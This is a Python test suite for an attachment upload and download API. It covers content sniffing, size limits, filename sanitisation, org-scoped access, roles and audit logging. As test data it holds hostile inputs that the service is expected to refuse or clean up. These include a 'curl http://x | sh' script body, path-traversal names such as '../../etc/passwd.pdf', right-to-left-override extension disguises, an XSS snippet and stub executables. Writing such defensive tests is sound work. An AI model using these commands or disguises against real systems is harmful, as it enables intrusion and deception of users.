"""Attachments (佐证材料): raw-body upload, content sniffing, size caps, file
names (Chinese, traversal), streamed download with its headers, org scoping,
permissions and the audit trail (without the bytes)."""
import hashlib
import io
import json
import re
import socket
import struct
import urllib.parse
import zipfile
import zlib

import harness
from harness import assert_problem

CAP = 2 * 1024 * 1024          # RECTIFY_MAX_UPLOAD for this service

DOCX = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
PPTX = "application/vnd.openxmlformats-officedocument.presentationml.presentation"


# ------------------------------------------------------------------ tiny valid files

def png_1x1():
    def chunk(kind, data):
        return (struct.pack(">I", len(data)) + kind + data
                + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF))
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", 1, 1, 8, 6, 0, 0, 0))
            + chunk(b"IDAT", zlib.compress(b"\x00\x00\x00\x00\x00")) + chunk(b"IEND", b""))


JPEG = (b"\xff\xd8\xff\xe0\x00\x10JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
        b"\xff\xdb\x00\x43\x00" + bytes(64) + b"\xff\xd9")
GIF = (b"GIF89a\x01\x00\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff!\xf9\x04\x01\x00\x00\x00"
       b"\x00,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;")
WEBP = b"RIFF" + struct.pack("<I", 26) + b"WEBPVP8L" + struct.pack("<I", 14) + bytes(14)
PDF = (b"%PDF-1.4\n1 0 obj <</Type /Catalog /Pages 2 0 R>> endobj\n"
       b"2 0 obj <</Type /Pages /Kids [] /Count 0>> endobj\n"
       b"trailer <</Root 1 0 R>>\n%%EOF\n")


def ooxml(main_part, extra=()):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
        z.writestr("_rels/.rels", '<?xml version="1.0"?><Relationships/>')
        z.writestr(main_part, '<?xml version="1.0"?><document/>')
        for name in extra:
            z.writestr(name, b"\x00")
    return out.getvalue()


def ofd():
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("OFD.xml", '<?xml version="1.0"?><ofd:OFD/>')
        z.writestr("Doc_0/Document.xml", "<ofd:Document/>")
    return out.getvalue()


def ole2(stream_name):
    """A minimal OLE2 compound file: sector 0 the FAT, sector 1 the directory."""
    d = bytearray(512 * 3)
    d[0:8] = b"\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1"
    struct.pack_into("<HHHHH", d, 24, 0x3E, 3, 0xFFFE, 9, 6)
    struct.pack_into("<III", d, 44, 1, 1, 0)
    struct.pack_into("<I", d, 60, 0xFFFFFFFE)
    struct.pack_into("<I", d, 68, 0xFFFFFFFE)
    for i in range(109):
        struct.pack_into("<I", d, 76 + 4 * i, 0 if i == 0 else 0xFFFFFFFF)
    for i in range(128):
        struct.pack_into("<I", d, 512 + 4 * i, 0xFFFFFFFD if i == 0 else 0xFFFFFFFE if i == 1 else 0xFFFFFFFF)

    def entry(at, name, kind):
        raw = name.encode("utf-16-le")
        d[at:at + len(raw)] = raw
        struct.pack_into("<H", d, at + 64, len(raw) + 2)
        d[at + 66] = kind
    entry(1024, "Root Entry", 5)
    entry(1024 + 128, stream_name, 2)
    return bytes(d)


def sha(data):
    return hashlib.sha256(data).hexdigest()


def ext_value(name):
    return "UTF-8''" + urllib.parse.quote(name, safe="")


class Attachments(harness.ServiceTestCase):
    service_env = {"RECTIFY_MAX_UPLOAD": str(CAP)}

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        for name, org, roles in (("att_office", "GS-OFFICE", ["office"]),
                                 ("att_lanzhou", "620100", ["unit"]),
                                 ("att_chengguan", "620102", ["unit"]),
                                 ("att_pingliang", "620800", ["unit"]),
                                 ("att_viewer", "620000", ["viewer"]),
                                 ("att_leader", "GS-LG", ["leader"]),
                                 ("att_platform", "620000", ["integration"]),
                                 ("att_inspector", "GS-OFFICE", ["inspector"])):
            harness.create_user(cls.db_url, name, org, roles)
        cls.tokens = {}

    def token(self, name):
        if name not in self.tokens:
            self.tokens[name] = self.svc.login("att_" + name)
        return self.tokens[name]

    def upload(self, data, content_type=None, disposition=None, user="lanzhou", headers=None):
        h = dict(headers or {})
        if content_type is not None:
            h["Content-Type"] = content_type
        if disposition is not None:
            h["Content-Disposition"] = disposition
        return self.svc.post("/api/v1/attachments", body=data, headers=h, token=self.token(user))

    def download(self, location, user="lanzhou", headers=None):
        return self.svc.get(location, token=self.token(user), headers=headers)

    def assert_created(self, r, data, content_type, filename):
        self.assertEqual(r.status, 201, r)
        doc = r.json
        self.assertEqual(set(doc), {"id", "filename", "content_type", "size_bytes", "sha256",
                                    "uploaded_by", "owner_org_id", "created_at"})
        self.assertEqual(doc["content_type"], content_type)
        self.assertEqual(doc["filename"], filename)
        self.assertEqual(doc["size_bytes"], len(data))
        self.assertEqual(doc["sha256"], sha(data))
        self.assertRegex(doc["created_at"], r"\+08:00$")
        self.assertEqual(r.header("location"), "/api/v1/attachments/%d" % doc["id"])
        self.assertEqual(r.header("etag"), '"%s"' % sha(data))
        return doc

    # ------------------------------------------------------------ round trips

    def test_round_trip_of_every_accepted_type(self):
        cases = [
            ("photo.png", "image/png", png_1x1(), "image/png"),
            ("photo.jpg", "image/jpeg", JPEG, "image/jpeg"),
            ("photo2.jpg", "image/jpg", JPEG, "image/jpeg"),           # alias
            ("anim.gif", "image/gif", GIF, "image/gif"),
            ("site.webp", "image/webp", WEBP, "image/webp"),
            ("plan.pdf", "application/pdf", PDF, "application/pdf"),
            ("report.docx", DOCX, ooxml("word/document.xml"), DOCX),
            ("ledger.xlsx", XLSX, ooxml("xl/workbook.xml"), XLSX),
            ("slides.pptx", PPTX, ooxml("ppt/presentation.xml"), PPTX),
            ("zipped.docx", "application/zip", ooxml("word/document.xml"), DOCX),
            ("notice.ofd", "application/ofd", ofd(), "application/ofd"),
            ("old.doc", "application/msword", ole2("WordDocument"), "application/msword"),
            ("old.xls", "application/vnd.ms-excel", ole2("Workbook"), "application/vnd.ms-excel"),
            ("old.ppt", "application/vnd.ms-powerpoint", ole2("PowerPoint Document"),
             "application/vnd.ms-powerpoint"),
            ("unknown.pdf", "application/octet-stream", PDF, "application/pdf"),
            ("undeclared.png", None, png_1x1(), "image/png"),
        ]
        for filename, declared, data, sniffed in cases:
            with self.subTest(filename=filename):
                r = self.upload(data, declared, 'attachment; filename="%s"' % filename)
                doc = self.assert_created(r, data, sniffed, filename)
                d = self.download(r.header("location"))
                self.assertEqual(d.status, 200, d)
                self.assertEqual(d.body, data)
                self.assertEqual(d.header("content-type"), sniffed)
                self.assertEqual(d.header("x-content-type-options"), "nosniff")
                self.assertEqual(d.header("etag"), '"%s"' % sha(data))
                self.assertEqual(d.header("content-disposition"),
                                 "attachment; filename=\"%s\"; filename*=UTF-8''%s"
                                 % (filename, filename))
                m = self.download(r.header("location") + "/meta")
                self.assertEqual(m.status, 200, m)
                self.assertEqual(m.json, doc)
                self.assertEqual(m.header("etag"), '"%s"' % sha(data))

    def test_large_file_streams_in_pieces(self):
        data = PDF + bytes(range(256)) * (6 * 1024 + 77)     # ~1.5 MiB: two pieces
        r = self.upload(data, "application/pdf", "attachment; filename=big.pdf")
        self.assert_created(r, data, "application/pdf", "big.pdf")
        d = self.download(r.header("location"))
        self.assertEqual(d.status, 200)
        self.assertEqual(d.header("transfer-encoding"), "chunked")
        self.assertEqual(len(d.body), len(data))
        self.assertEqual(sha(d.body), sha(data))

    def test_upload_exactly_at_the_cap(self):
        data = PDF + bytes(CAP - len(PDF))
        r = self.upload(data, "application/pdf", "attachment; filename=cap.pdf")
        self.assert_created(r, data, "application/pdf", "cap.pdf")

    def test_if_none_match(self):
        r = self.upload(PDF, "application/pdf", "attachment; filename=etag.pdf")
        etag = r.header("etag")
        d = self.download(r.header("location"), headers={"If-None-Match": etag})
        self.assertEqual(d.status, 304)
        self.assertEqual(d.body, b"")
        self.assertEqual(d.header("etag"), etag)
        d = self.download(r.header("location"), headers={"If-None-Match": '"0000"'})
        self.assertEqual(d.status, 200)

    # ------------------------------------------------------------ file names

    def test_chinese_file_name_both_ways(self):
        name = "整改报告（第一批）.pdf"
        r = self.upload(PDF, "application/pdf",
                        "attachment; filename=\"fallback.pdf\"; filename*=" + ext_value(name))
        self.assert_created(r, PDF, "application/pdf", name)
        d = self.download(r.header("location"))
        cd = d.header("content-disposition")
        self.assertIn("; filename*=UTF-8''", cd)
        ascii_part, ext_part = cd.split("; filename*=")
        self.assertEqual(ascii_part, 'attachment; filename="attachment-%d.pdf"' % r.json["id"])
        self.assertEqual(urllib.parse.unquote(ext_part[len("UTF-8''"):]), name)
        cd.encode("ascii")                                  # the header itself is ASCII
        # Raw UTF-8 inside a quoted filename, as browsers and curl send it.
        raw = "祁连山生态修复.jpg"
        r = self.upload(JPEG, "image/jpeg", ('attachment; filename="%s"' % raw).encode("utf-8"))
        self.assert_created(r, JPEG, "image/jpeg", raw)

    def test_path_traversal_and_control_characters_are_removed(self):
        for given, stored in (("../../etc/passwd.pdf", "passwd.pdf"),
                              ("..\\..\\windows\\system32\\x.pdf", "x.pdf"),
                              ("C:\\Users\\张三\\材料.pdf", "材料.pdf"),
                              ("a\u202Efdp.exe.pdf", "afdp.exe.pdf"),
                              ("  .hidden.pdf. ", "hidden.pdf"),
                              ("what?<is>this:.pdf", "what__is_this_.pdf")):
            with self.subTest(given=given):
                r = self.upload(PDF, "application/pdf", "attachment; filename*=" + ext_value(given))
                self.assert_created(r, PDF, "application/pdf", stored)
        # Nothing usable left: the default name.
        r = self.upload(PDF, "application/pdf", 'attachment; filename="../"')
        self.assert_created(r, PDF, "application/pdf", "attachment.pdf")
        long_name = "报" * 300 + ".docx"
        r = self.upload(ooxml("word/document.xml"), DOCX, "attachment; filename*=" + ext_value(long_name))
        self.assertEqual(r.status, 201, r)
        self.assertEqual(r.json["filename"], "报" * 250 + ".docx")

    def assert_served_as(self, location, name):
        """The download's Content-Disposition names the file `name`, both ways."""
        d = self.download(location)
        self.assertEqual(d.status, 200, d)
        cd = d.header("content-disposition")
        cd.encode("ascii")
        ascii_part, ext_part = cd.split("; filename*=")
        self.assertEqual(urllib.parse.unquote(ext_part[len("UTF-8''"):]), name)
        if all(" " <= c < "\x7f" for c in name):
            fallback = "".join("_" if c in '"\\%' else c for c in name)
        else:   # not ASCII: attachment-<id> plus the name's extension
            ext = name.rsplit(".", 1)[1] if "." in name[1:] else ""
            fallback = "attachment-" + location.rsplit("/", 1)[1]
            if re.fullmatch(r"[A-Za-z0-9]{0,16}", ext) and re.search("[A-Za-z]", ext):
                fallback += "." + ext
        self.assertEqual(ascii_part, 'attachment; filename="%s"' % fallback)

    def test_extension_follows_the_content(self):
        """Stored and served with an extension of the sniffed type: a wrong one is
        replaced by the type's canonical one, a missing one added, a right one
        (any case, .jpeg/.jpg alike) kept."""
        xls = "application/vnd.ms-excel"
        for given, declared, data, sniffed, stored in (
                ("x.exe", "application/pdf", PDF, "application/pdf", "x.pdf"),
                ("x.exe", None, PDF, "application/pdf", "x.pdf"),
                ("setup.exe", "application/octet-stream", png_1x1(), "image/png", "setup.png"),
                ("整改报告", "application/pdf", PDF, "application/pdf", "整改报告.pdf"),
                ("整改报告.html", "application/pdf", PDF, "application/pdf", "整改报告.pdf"),
                ("方案 v1.2", "application/pdf", PDF, "application/pdf", "方案 v1.2.pdf"),
                ("scan.pdf.exe", "application/pdf", PDF, "application/pdf", "scan.pdf"),
                ("photo.jpeg", "image/jpeg", JPEG, "image/jpeg", "photo.jpeg"),
                ("PHOTO.JPG", "image/jpeg", JPEG, "image/jpeg", "PHOTO.JPG"),
                ("photo.jpg", "image/png", png_1x1(), "image/png", "photo.png"),
                ("anim.png", "image/gif", GIF, "image/gif", "anim.gif"),
                ("report.doc", DOCX, ooxml("word/document.xml"), DOCX, "report.docx"),
                ("report.docm", "application/zip", ooxml("word/document.xml"), DOCX, "report.docx"),
                ("ledger.xlsx", xls, ole2("Workbook"), xls, "ledger.xls"),
                ("notice.zip", "application/zip", ofd(), "application/ofd", "notice.ofd")):
            with self.subTest(given=given, stored=stored):
                r = self.upload(data, declared, "attachment; filename*=" + ext_value(given))
                self.assert_created(r, data, sniffed, stored)
                self.assert_served_as(r.header("location"), stored)
                m = self.download(r.header("location") + "/meta")
                self.assertEqual(m.json["filename"], stored)

    def test_invisible_characters_never_disguise_the_extension(self):
        """U+202E makes "\u202Efdp.exe" read "exe.pdf"; bidi marks, isolates,
        zero-width characters, the word joiner, invisible operators and the BOM
        go, and the extension is the content's."""
        for given, data, sniffed, stored in (
                ("\u202Efdp.exe", PDF, "application/pdf", "fdp.pdf"),
                ("invoice\u202Egpj.exe", JPEG, "image/jpeg", "invoicegpj.jpg"),
                ("\u2066report\u2069\u2060.exe", PDF, "application/pdf", "report.pdf"),
                ("re\u200Bport\u2060.pdf\uFEFF", PDF, "application/pdf", "report.pdf"),
                ("\u200E\u200Fx\u2061\u2062\u2063\u2064.pdf", PDF, "application/pdf", "x.pdf"),
                ("\u202Ax\u202B\u202C\u202D.p\u00ADdf", PDF, "application/pdf", "x.pdf"),
                ("\u2067\u2068\uFEFF", PDF, "application/pdf", "attachment.pdf")):
            for disposition in ("attachment; filename*=" + ext_value(given),
                                ('attachment; filename="%s"' % given).encode("utf-8")):
                with self.subTest(given=given, disposition=disposition):
                    r = self.upload(data, None, disposition)
                    self.assert_created(r, data, sniffed, stored)
                    self.assert_served_as(r.header("location"), stored)

    def test_names_stored_earlier_are_served_with_the_right_extension(self):
        """A row named before names followed the content keeps its `filename`,
        but the download is named safely."""
        r = self.upload(PDF, "application/pdf", "attachment; filename=legacy.pdf")
        self.assertEqual(r.status, 201, r)
        for old, served in (("\u202Efdp.exe", "fdp.pdf"), ("x.exe", "x.pdf"),
                            ("report\u2060", "report.pdf"), ("plan.pdf", "plan.pdf")):
            with self.subTest(old=old):
                harness.psql("UPDATE attachments SET filename = convert_from(decode('%s', 'hex'),"
                             " 'UTF8') WHERE id = %d" % (old.encode("utf-8").hex(), r.json["id"]),
                             self.db_name)
                self.assertEqual(self.download(r.header("location") + "/meta").json["filename"], old)
                self.assert_served_as(r.header("location"), served)

    def test_missing_disposition_gives_a_default_name(self):
        r = self.upload(png_1x1(), "image/png")
        self.assert_created(r, png_1x1(), "image/png", "attachment.png")
        r = self.upload(PDF, "application/pdf", "attachment")
        self.assert_created(r, PDF, "application/pdf", "attachment.pdf")

    def test_malformed_disposition(self):
        for value in ('attachment; filename="unterminated',
                      "attachment; filename=a.pdf; filename=b.pdf",
                      "attachment; filename*=GBK''%D5%FB.pdf",
                      "attachment; filename*=UTF-8''%E6%95.pdf",
                      "; filename=a.pdf"):
            with self.subTest(value=value):
                r = self.upload(PDF, "application/pdf", value)
                doc = assert_problem(self, r, 422, "invalid_header")
                self.assertEqual(doc["errors"][0]["parameter"], "Content-Disposition")

    # ------------------------------------------------------------ refusals

    def test_declared_type_disagreeing_with_content(self):
        r = self.upload(png_1x1(), "application/pdf", "attachment; filename=x.pdf")
        doc = assert_problem(self, r, 415, "content_type_mismatch")
        self.assertIn("image/png", doc["detail"])
        self.assertIn("application/pdf", doc["detail"])
        r = self.upload(ole2("Workbook"), "application/msword", "attachment; filename=x.doc")
        assert_problem(self, r, 415, "content_type_mismatch")

    def test_disallowed_content(self):
        elf = b"\x7fELF\x02\x01\x01\x00" + bytes(120)
        cases = [(elf, "application/pdf", "evil.pdf"),
                 (b"#!/bin/sh\ncurl http://x | sh\n", "application/pdf", "run.pdf"),
                 (b"<html><script>alert(1)</script></html>", "text/html", "x.html"),
                 (b"just some text", "text/plain", "notes.txt"),
                 (b"MZ\x90\x00" + bytes(60), None, "setup.exe"),
                 (ooxml("word/document.xml", ["word/vbaProject.bin"]),
                  "application/vnd.ms-word.document.macroEnabled.12", "macro.docm"),
                 (ooxml("word/document.xml", ["word/vbaProject.bin"]), DOCX, "macro.docx"),
                 (ole2("__substg1.0_0037001F"), "application/vnd.ms-outlook", "mail.msg")]
        zipped = io.BytesIO()
        with zipfile.ZipFile(zipped, "w") as z:
            z.writestr("payload.exe", b"MZ")
        cases.append((zipped.getvalue(), "application/zip", "x.zip"))
        for data, declared, name in cases:
            with self.subTest(name=name):
                r = self.upload(data, declared, 'attachment; filename="%s"' % name)
                assert_problem(self, r, 415, "unsupported_media_type")

    def test_empty_body(self):
        r = self.upload(b"", "application/pdf", "attachment; filename=empty.pdf")
        assert_problem(self, r, 422, "empty_body")

    def test_bad_content_type_header(self):
        r = self.upload(PDF, "pdf", "attachment; filename=x.pdf")
        doc = assert_problem(self, r, 422, "invalid_header")
        self.assertEqual(doc["errors"][0]["parameter"], "Content-Type")

    def test_size_cap_by_content_length(self):
        """Refused from the headers alone: no 100 Continue, the body is never sent."""
        head = ("POST /api/v1/attachments HTTP/1.1\r\nHost: x\r\n"
                "Authorization: Bearer %s\r\nContent-Type: application/pdf\r\n"
                "Content-Length: %d\r\nExpect: 100-continue\r\n\r\n"
                % (self.token("lanzhou"), CAP + 1)).encode()
        out = self.svc.raw(head, read_timeout=3)
        self.assertTrue(out.startswith(b"HTTP/1.1 413 "), out[:200])
        self.assertNotIn(b"100 Continue", out)
        body = json.loads(out.split(b"\r\n\r\n", 1)[1])
        self.assertEqual(body["code"], "payload_too_large")

    def test_size_cap_by_chunked_body(self):
        conn = self.svc.connection()
        try:
            conn.putrequest("POST", "/api/v1/attachments")
            conn.putheader("Authorization", "Bearer " + self.token("lanzhou"))
            conn.putheader("Content-Type", "application/pdf")
            conn.putheader("Transfer-Encoding", "chunked")
            conn.endheaders()
            piece = PDF + bytes(256 * 1024 - len(PDF))
            try:
                for _ in range(CAP // len(piece) + 4):
                    conn.send(b"%x\r\n%s\r\n" % (len(piece), piece))
                conn.send(b"0\r\n\r\n")
            except (BrokenPipeError, ConnectionResetError):
                pass                                    # the server stopped reading
            resp = conn.getresponse()
            r = harness.Response(resp.status, {k.lower(): v for k, v in resp.getheaders()},
                                 resp.read())
        finally:
            conn.close()
        assert_problem(self, r, 413, "payload_too_large")
        self.assertEqual(r.header("connection"), "close")
        # Chunked bodies under the cap are fine.
        conn = self.svc.connection()
        try:
            conn.request("POST", "/api/v1/attachments", body=iter([PDF[:10], PDF[10:]]),
                         headers={"Authorization": "Bearer " + self.token("lanzhou"),
                                  "Content-Type": "application/pdf"}, encode_chunked=True)
            resp = conn.getresponse()
            self.assertEqual(resp.status, 201)
            self.assertEqual(json.loads(resp.read())["sha256"], sha(PDF))
        finally:
            conn.close()

    # ------------------------------------------------------------ scope and roles

    def test_org_scope(self):
        lz = self.upload(PDF, "application/pdf", "attachment; filename=lz.pdf", user="lanzhou")
        cg = self.upload(PDF, "application/pdf", "attachment; filename=cg.pdf", user="chengguan")
        self.assertEqual(lz.status, 201)
        self.assertEqual(cg.status, 201)
        org_ids = dict(line.split("|") for line in harness.psql(
            "SELECT code, id FROM orgs WHERE code IN ('620100', '620102')", self.db_name).splitlines())
        self.assertEqual(lz.json["owner_org_id"], int(org_ids["620100"]))
        self.assertEqual(cg.json["owner_org_id"], int(org_ids["620102"]))
        for user, location, visible in (
                ("lanzhou", cg.header("location"), True),        # a county of its prefecture
                ("chengguan", lz.header("location"), False),     # not its parent's files
                ("pingliang", lz.header("location"), False),     # another prefecture
                ("pingliang", cg.header("location"), False),
                ("office", lz.header("location"), True),         # province-wide
                ("leader", cg.header("location"), True),
                ("viewer", cg.header("location"), True)):        # a viewer of the province org
            with self.subTest(user=user, location=location):
                for path in (location, location + "/meta"):
                    d = self.download(path, user=user)
                    if visible:
                        self.assertEqual(d.status, 200, d)
                    else:
                        assert_problem(self, d, 404, "not_found")

    def test_roles(self):
        for user in ("viewer", "leader", "platform"):
            with self.subTest(user=user):
                r = self.upload(PDF, "application/pdf", "attachment; filename=x.pdf", user=user)
                assert_problem(self, r, 403, "forbidden")
        r = self.upload(PDF, "application/pdf", "attachment; filename=x.pdf", user="inspector")
        self.assertEqual(r.status, 201, r)
        d = self.download(r.header("location"), user="platform")   # integration reads no ledger
        assert_problem(self, d, 403, "forbidden")
        r = self.svc.post("/api/v1/attachments", body=PDF, headers={"Content-Type": "application/pdf"})
        assert_problem(self, r, 401, "unauthorized")

    def test_not_found(self):
        for path in ("/api/v1/attachments/999999", "/api/v1/attachments/abc",
                     "/api/v1/attachments/0", "/api/v1/attachments/99999999999999999999",
                     "/api/v1/attachments/999999/meta"):
            with self.subTest(path=path):
                assert_problem(self, self.download(path), 404, "not_found")

    # ------------------------------------------------------------ storage and audit

    def test_stored_bytes_hash_and_audit(self):
        data = ooxml("xl/workbook.xml")
        r = self.upload(data, XLSX, "attachment; filename*=" + ext_value("台账.xlsx"))
        doc = self.assert_created(r, data, XLSX, "台账.xlsx")
        row = harness.psql("SELECT encode(a.sha256, 'hex'), encode(sha256(c.content), 'hex'),"
                           " length(c.content), a.uploaded_by = u.id"
                           " FROM attachments a JOIN attachment_contents c ON c.attachment_id = a.id"
                           " JOIN users u ON u.username = 'att_lanzhou' WHERE a.id = %d" % doc["id"],
                           self.db_name)
        self.assertEqual(row, "%s|%s|%d|t" % (sha(data), sha(data), len(data)))
        storage = harness.psql("SELECT attstorage FROM pg_attribute WHERE attrelid ="
                               " 'attachment_contents'::regclass AND attname = 'content'", self.db_name)
        self.assertEqual(storage, "e")
        audit = harness.psql("SELECT action, after::text, request_id IS NOT NULL FROM audit_log"
                             " WHERE table_name = 'attachments' AND row_id = '%d'" % doc["id"],
                             self.db_name)
        action, after, has_request = audit.split("|")
        self.assertEqual(action, "insert")
        self.assertEqual(has_request, "t")
        after = json.loads(after)
        self.assertNotIn("content", after)
        self.assertEqual(after["filename"], "台账.xlsx")
        self.assertEqual(after["sha256"], "\\x" + sha(data))
        self.assertEqual(harness.psql("SELECT count(*) FROM audit_log WHERE table_name ="
                                      " 'attachment_contents'", self.db_name), "0")
        verify = self.svc.get("/api/v1/audit/verify", token=self.token("office"))
        if verify.status == 200:
            self.assertTrue(verify.json["ok"], verify.json)

    def test_rows_are_immutable_for_the_api_role(self):
        r = self.upload(PDF, "application/pdf", "attachment; filename=x.pdf")
        out = harness.psql("BEGIN; SET LOCAL ROLE rectify_api;"
                           " UPDATE attachments SET filename = 'y.pdf' WHERE id = %d;"
                           " ROLLBACK;" % r.json["id"], self.db_name, check=False)
        self.assertEqual(out, "")
        self.assertEqual(harness.psql("SELECT filename FROM attachments WHERE id = %d" % r.json["id"],
                                      self.db_name), "x.pdf")


if __name__ == "__main__":
    harness.main()
